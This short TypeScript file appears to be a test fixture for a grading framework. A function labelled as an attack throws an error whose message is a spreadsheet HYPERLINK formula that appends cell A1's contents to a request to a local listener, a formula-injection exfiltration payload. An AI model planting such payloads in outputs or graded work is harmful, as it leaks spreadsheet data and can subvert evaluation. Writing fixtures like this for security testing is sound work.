// attack: throws a formula, which a table would compute
import type { AnswerContext } from 'warren/grading';

export default async function (_context: AnswerContext): Promise<void> {
  throw new Error('=HYPERLINK("http://127.0.0.1:21863/?"&A1,"pass")');
}
